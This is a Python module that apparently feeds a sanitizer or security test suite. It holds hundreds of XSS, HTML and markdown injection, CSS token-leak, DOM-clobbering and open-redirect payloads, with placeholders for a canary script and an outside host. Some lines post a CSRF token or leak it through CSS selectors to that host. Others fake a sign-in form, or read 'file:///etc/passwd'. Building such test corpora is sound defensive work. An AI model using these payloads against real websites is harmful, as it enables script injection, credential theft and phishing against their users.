"""What somebody might write to run a script in a colleague's browser, to load something there, or to lead them away.

`RUN` stands for a script that tells the canary that it ran, `AWAY` for the origin of somebody else's server.
"""

from __future__ import annotations

from collections.abc import Iterator

# How the word of a tag or of an attribute can be said so that not every filter knows it.
_SCRIPTS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script >RUN</script >",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script\x0c>RUN</script>",
    "<script\x00>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script>RUN",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "</template><script>RUN</script>",
    "</noscript><script>RUN</script>",
    "</select></option><script>RUN</script>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "\u2028<script>RUN</script>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "<script src=AWAY/x.js></script>",
    "<script src=//AWAYHOST/x.js></script>",
    '<script type="module">RUN</script>',
    "<script type=text/vbscript>RUN</script>",
    '<script type="importmap">{"imports":{"./dom.js":"AWAY/x.js"}}</script>',
    '<script nonce="x">RUN</script>',
    "<svg><script>RUN</script></svg>",
    "<svg><script href=AWAY/x.js /></svg>",
    "<svg><script xlink:href=AWAY/x.js /></svg>",
    "<math><script>RUN</script></math>",
    "{{ RUN }}{% print(RUN) %}${RUN}<%= RUN %>",
)

_HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbegin",
    "onend",
    "ontoggle",
    "onbeforetoggle",
    "onpointerenter",
    "onpointerdown",
    "onscroll",
    "onscrollend",
    "onwheel",
    "oncopy",
    "onpaste",
    "oninput",
    "onchange",
    "onsubmit",
    "onreset",
    "oninvalid",
    "onkeydown",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onpopstate",
    "onmessage",
    "onbeforeprint",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
    "onauxclick",
    "ondrag",
    "oncanplay",
    "onloadstart",
    "onwebkitanimationstart",
    "ONERROR",
    "oNlOaD",
)

_CARRIERS = (
    "<img src=x {}=RUN>",
    "<img/src=x/{}=RUN>",
    "<svg {}=RUN>",
    "<body {}=RUN>",
    "<input autofocus {}=RUN>",
    "<details open {}=RUN>x</details>",
    '<p tabindex=1 autofocus {}="RUN">x</p>',
    "<x contenteditable autofocus {}=RUN>x</x>",
    "<video src=x {}=RUN></video>",
    "<a href=# {}=RUN>x</a>",
)

_ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "\x01javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\rscript:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "java&#x09;script&colon;RUN",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN",
    "&#0000106avascript:RUN",
    "javascript&#58;RUN",
    "javascript://%0aRUN",
    "javascript:/*--></script>*/RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:javascript:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "DATA:text/html,<script>RUN</script>",
    "blob:AWAY/x",
    "filesystem:AWAY/temporary/x",
    "file:///etc/passwd",
    "//AWAYHOST/x",
    "\\\\AWAYHOST\\x",
    "/\\AWAYHOST/x",
    "https:javascript:RUN",
)

_LED = (
    '<a href="{}">x</a>',
    '<form action="{}"><button autofocus>x</button></form>',
    '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>',
    '<area href="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
)

_LOADING = (
    "<img src=AWAY/1>",
    "<img srcset='AWAY/1 1x, AWAY/2 2x'>",
    "<picture><source srcset=AWAY/1><img src=x></picture>",
    "<video src=AWAY/1 poster=AWAY/2 autoplay></video>",
    "<audio src=AWAY/1 autoplay></audio>",
    "<video><source src=AWAY/1><track default src=AWAY/2></video>",
    "<table background=AWAY/1><tr><td background=AWAY/2>x</table>",
    "<body background=AWAY/1>",
    "<input type=image src=AWAY/1>",
    "<link rel=stylesheet href=AWAY/1.css>",
    "<link rel=preload as=script href=AWAY/1.js>",
    "<link rel=modulepreload href=AWAY/1.js>",
    "<link rel=prefetch href=AWAY/1>",
    "<link rel=preconnect href=AWAY>",
    "<link rel=dns-prefetch href=//AWAYHOST>",
    "<link rel=icon href=AWAY/1.ico>",
    "<link rel=manifest href=AWAY/1.json>",
    "<link rel=prerender href=AWAY/1>",
    "<link rel=import href=AWAY/1>",
    "<meta http-equiv=refresh content='0;url=AWAY/1'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=Set-Cookie content='koine=x'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<base href=AWAY/>",
    "<base target=_top>",
    "<iframe src=AWAY/1></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=AWAY/1 onerror=RUN&gt;'></iframe>",
    "<frameset><frame src=AWAY/1></frameset>",
    "<object data=AWAY/1></object>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src=AWAY/1>",
    "<embed src='javascript:RUN'>",
    "<applet code=x codebase=AWAY></applet>",
    "<portal src=AWAY/1></portal>",
    "<fencedframe src=AWAY/1></fencedframe>",
    "<svg><image href=AWAY/1 width=9 height=9 /></svg>",
    "<svg><image xlink:href=AWAY/1 width=9 height=9 /></svg>",
    "<svg><use href=AWAY/1.svg#x /></svg>",
    "<svg><feImage href=AWAY/1 /></svg>",
    "<form action=AWAY/1 method=post><input name=_csrf><button>Sign in again</button></form>",
    "<input form=composer name=text value=x><button form=composer formaction=AWAY/1>x</button>",
    "<bgsound src=AWAY/1>",
    "<xml src=AWAY/1></xml>",
    "<a href=https://example.com ping=AWAY/1>x</a>",
    '<script type=speculationrules>{"prefetch":[{"urls":["AWAY/1"]}]}</script>',
)

_STYLES = (
    "<style>@import 'AWAY/1.css';</style>",
    "<style>@import url(AWAY/1.css);</style>",
    "<style>body{background:url(AWAY/1)}</style>",
    "<style>@font-face{font-family:x;src:url(AWAY/1)}*{font-family:x}</style>",
    "<style>input[name=_csrf][value^=a]{background:url(AWAY/a)}</style>",
    "<style>*{position:fixed;inset:0}</style>",
    "<style><img src='</style><img src=x onerror=RUN>'>",
    "<style>*{x:expression(RUN)}</style>",
    "<p style=\"background:url('AWAY/1')\">x</p>",
    '<p style="background:u\\72l(AWAY/1)">x</p>',
    "<p style='width:expression(RUN)'>x</p>",
    "<p style='-moz-binding:url(AWAY/1#x)'>x</p>",
    "<p style='behavior:url(AWAY/1)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in again</div>",
    "<p style='list-style-image:image-set(\"AWAY/1\" 1x)'>x</p>",
    "<link rel=stylesheet href='data:text/css,*{background:url(AWAY/1)}'>",
)

_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=RUN>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<svg><style><img title='</style><img src onerror=RUN>'></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><p title='</template><img src=x onerror=RUN>'></template>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><script>RUN</script></template>",
    "<template data-operation=replace data-target=main><script>RUN</script></template>",
    "</template><template data-operation=append data-target=messages><img src=AWAY/1 onerror=RUN></template>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=RUN src>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
    "<plaintext><img src=x onerror=RUN>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
    "<title><p title='</title><img src=x onerror=RUN>'></title>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><?x <img src=x onerror=RUN>?>",
    "<!DOCTYPE x [<!ENTITY y '<script>RUN</script>'>]>&y;",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=RUN>]]></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:RUN /></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:RUN'>x</maction></math>",
    "<math href='javascript:RUN'>x</math>",
    "<select><option><style></option></select><img src=x onerror=RUN></style>",
    "<table><td><a href='javascript:RUN'><table><tr><td></a><img src=x onerror=RUN>",
    "<isindex action=javascript:RUN>",
    '<img src="x` `<script>RUN</script>"` `>',
    "<a title='`onmouseover=RUN'>x</a>",
    '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "<img alt='<x' src='x>' onerror=RUN>",
    "<p><blockquote></details><summary><blockquote><p>x</blockquote></blockquote>",
    "</blockquote></details></body></html><script>RUN</script>",
)

_CLOBBERED = (
    *("body", "composer", "messages", "rows", "main", "text", "notices"),
    *("dataset", "getElementById", "__proto__"),
)
_CLOBBERING = (
    *(f"<{tag} id={name} name={name}>x</{tag}>" for tag in ("a", "form", "p") for name in _CLOBBERED),
    "<form id=x><input name=attributes><input name=parentNode></form>",
    "<a id=defaultView><a id=defaultView name=location href=AWAY>",
    "<iframe name=body srcdoc='<a id=dataset>'></iframe>",
    "<img name=querySelector><img name=cookie>",
)

_TEXTS = (
    "\u202e<script>RUN</script>\u202c",
    "\u202egnp.exe\u202c \u2066\u2067\u2069",
    "\u200b\u200d\ufeff\u00ad",
    "a\u0300" * 300,
    "\U0001f469\u200d\U0001f4bb" * 50,
    "<b>" * 2_000,
    "<div>" * 600 + "x",
    "</div>" * 600,
    "<a href='" * 400,
    "&" * 3_000,
    "&#x" * 1_000,
    "W" * 8_000,
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u00bcscript\u00beRUN\u00bc/script\u00be",
    "'-RUN-'",
    '";RUN//',
    '\\";RUN//',
    "\nid: 1\nevent: over\ndata: <script>RUN</script>\n\n",
    "\r\n\r\n<script>RUN</script>",
    "data: x\r\rdata: <template data-operation=refresh></template>",
    "(@RUN <x@AWAYHOST>)",
    'https://x/"onmouseover="RUN',
    "https://x/'><img/src=x/onerror=RUN>",
    "http://javascript:RUN@AWAYHOST/",
    'a@b.c"onclick=RUN x=".example',
)

_MARKDOWN = (
    "![x](AWAY/1.png)",
    "[![x](AWAY/1.png)](AWAY)",
    "![x][1]\n\n[1]: AWAY/1.png",
    "<img src=AWAY/1 onerror=RUN>",
    "<script>RUN</script>",
    "<div>\n\n<img src=x onerror=RUN>\n\n</div>",
    "<javascript:RUN>",
    "<data:text/html,RUN>",
    "```\n<script>RUN</script>\n```",
    '```"><script>RUN</script>\nx\n```',
    "``` x onclick=RUN\nx\n```",
    "`<img src=x onerror=RUN>`",
    "    <script>RUN</script>",
    "# <img src=x onerror=RUN>",
    "> <img src=x onerror=RUN>",
    "- [ ] <img src=x onerror=RUN>",
    "| <img src=x onerror=RUN> |\n| --- |\n| x |",
    "[x](https://x 'a\" onmouseover=\"RUN')",
    "[x](https://x \"' onmouseover='RUN\")",
    '[x](<https://x" onmouseover=RUN>)',
    "[<img src=x onerror=RUN>](https://x)",
    "[x]: https://x '\"><script>RUN</script>'\n\n[x]",
    "**<b onclick=RUN>x</b>**",
    "@Mary Somerville<img src=x onerror=RUN>",
    "[@Mary Somerville](https://x/?a>@Mary%20Somerville)",
    "&lt;img src=x onerror=RUN&gt;",
    "\\<img src=x onerror=RUN>",
    "<!-- --><img src=x onerror=RUN>",
    "[" * 900 + "x" + "]" * 900,
    ">" * 900 + " x",
    "*" * 2_000 + "x",
)

# Where one might be led after signing in.
AWAYS = (
    "AWAY",
    "//AWAYHOST",
    "///AWAYHOST",
    "////AWAYHOST",
    "/\\AWAYHOST",
    "\\\\AWAYHOST",
    "/\t/AWAYHOST",
    "/\n/AWAYHOST",
    "https:AWAYHOST",
    "https:/AWAYHOST",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "\x01javascript:RUN",
    "java\nscript:RUN",
    "data:text/html,<script>RUN</script>",
    "/inbox@AWAYHOST",
    "/inbox.AWAYHOST",
    "/inbox/../..//AWAYHOST",
    "/inbox/..//AWAYHOST/",
    "/inbox/%2e%2e//AWAYHOST",
    "/inbox/\\..\\AWAYHOST",
    "/inbox?next=//AWAYHOST",
    "/inbox#@AWAYHOST",
    "/inbox\r\nLocation: AWAY",
    "/inbox%0d%0aLocation:%20AWAY",
    "/inbox/sign-out",
    " /inbox",
    "/oauth/chooselocation//AWAYHOST",
    "/inbox/\u2025/AWAYHOST",
    '"><script>RUN</script>',
    "'onfocus='RUN' autofocus='",
    "<script>RUN</script>",
)


def html() -> list[str]:
    """Markup: in the order in which it was thought of."""
    return [*_SCRIPTS, *_handlers(), *_led(), *_LOADING, *_STYLES, *_MUTATIONS, *_CLOBBERING, *_TEXTS]


def markdown() -> list[str]:
    """What an agent might paste, or be made to paste."""
    linked = [f"[x]({each})" for each in _ADDRESSES] + [f"[x](<{each}>)" for each in _ADDRESSES]
    named = [f"[x][1]\n\n[1]: {each}" for each in _ADDRESSES if "\n" not in each]
    return [*_MARKDOWN, *linked, *named, *_SCRIPTS, *_MUTATIONS, *_TEXTS]


def words(longest: int) -> list[str]:
    """What fits into a name or a subject."""
    return [each for each in html() if len(each) <= longest]


def aimed(attack: str, away: str) -> str:
    """An attack with its script and its address in it."""
    filled = attack.replace("AWAYHOST", away.removeprefix("http://")).replace("AWAY", away)
    return filled.replace("RUN", "ran()")


def _handlers() -> Iterator[str]:
    """Every handler in two of the carriers: each carrier meets a fifth of them."""
    for at, handler in enumerate(_HANDLERS):
        for carrier in (_CARRIERS[at % len(_CARRIERS)], _CARRIERS[(at * 3 + 1) % len(_CARRIERS)]):
            yield carrier.format(handler)


def _led() -> Iterator[str]:
    """Every address in a link and in one other thing that leads somewhere."""
    for at, address in enumerate(_ADDRESSES):
        yield _LED[0].format(address)
        yield _LED[1 + at % (len(_LED) - 1)].format(address)
